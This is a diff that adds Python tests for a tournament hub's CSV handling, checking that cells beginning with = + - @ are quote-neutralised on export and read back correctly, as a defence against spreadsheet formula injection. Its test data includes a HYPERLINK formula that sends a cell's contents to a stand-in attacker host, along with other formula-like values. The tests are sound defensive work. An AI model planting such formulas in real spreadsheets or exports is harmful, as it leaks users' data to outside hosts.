@@ -38,6 +38,47 @@ def test_bom_semicolons_members_and_eligibility(tmp_path):
     assert ev.station("T02", 1).entrant == "T2" and ev.station("T02", 1).table == "Bord 2"
 
 
+# cells a spreadsheet would run as a formula, and names that begin with a quote of their own
+FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1;"click")', "+1+1", "-2+3", "@SUM(1+1)"]
+QUOTED = ["'t Hooft", "'=not neutralised by us", "''@twice", "Plain"]
+
+
+def test_entrants_and_stations_written_as_the_hub_writes_csv_read_back_unchanged(tmp_path):
+    """CSV formula injection (issue #33 item 5): files written by csv_text
+    (a quote before a cell that begins with = + - @, tab or CR; text cells
+    in double quotes) are read back as they were: ids, names, members,
+    tables; a name's own leading quote stays."""
+    from tabletimer.hub.event.csv_cells import csv_text
+
+    d = ef.init(tmp_path / "ev", "rogaland-teams")
+    names = FORMULAS + QUOTED
+    ids = [f"{'-+@='[i % 4]}{i}" for i in range(len(names))]          # ids that look like formulas too
+    members = [[n, f"@m{i}", f"-m{i}"] for i, n in enumerate(names)]
+    text = csv_text([ef.ENTRANT_COLUMNS] + [
+        (e, n, "team", "|".join(m), "yes|yes|no", "=note") for e, n, m in zip(ids, names, members)])
+    (d / "entrants.csv").write_text(text, encoding="utf-8")
+    (d / "stations.csv").write_text(csv_text([ef.STATION_COLUMNS] + [
+        (f"T{i + 1:02d}", 1, f"-Table {i + 1}", e, "") for i, e in enumerate(ids)]), encoding="utf-8")
+    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1;""click"")"' in text
+    for cell in ("'-2+3", "'@SUM(1+1)", "'+1+1", "'t Hooft", "''=not neutralised by us",
+                 "'''@twice", "'-0", "'+1", "'@2", "'=3", "'=note"):
+        assert f'"{cell}"' in text, cell
+    ev = ef.load(d)
+    assert [(e.id, e.name, [m.name for m in e.members]) for e in ev.entrants] == list(zip(ids, names, members))
+    assert [(s.entrant, s.table) for s in ev.stations] == [(e, f"-Table {i + 1}") for i, e in enumerate(ids)]
+
+
+def test_cells_a_registration_tool_neutralised_are_read_without_the_quote(tmp_path):
+    """An export that put a quote before = + - @ (OWASP's rule, as the hub's
+    own CSV files do) gives the names without it; other quotes stay."""
+    d = ef.init(tmp_path / "ev", "cz-championship-individuals")
+    (d / "entrants.csv").write_text("id;name\n1;'=SUM(A1:A2)\n2;'-5\n3;'+Anna\n4;'@Ben\n5;'t Hooft\n"
+                                    "6;  '=trimmed  \n7;'\n", encoding="utf-8")
+    (d / "stations.csv").write_text("board;button;entrant\n" + "".join(f"T01;{i};{i}\n" for i in range(1, 8)))
+    assert [e.name for e in ef.load(d).entrants] == ["=SUM(A1:A2)", "-5", "+Anna", "@Ben", "'t Hooft",
+                                                     "=trimmed", "'"]
+
+
 @pytest.mark.parametrize("entrants,stations,message", [
     ("id,name\n1,A\n1,B\n", "board,button,entrant\nT01,1,1\n", r"entrants.csv:3: id '1' already used on line 2"),
     ("id,name,kind\n1,A,team\n", "board,button,entrant\nT01,1,1\n", r"entrants.csv:2: kind 'team'"),
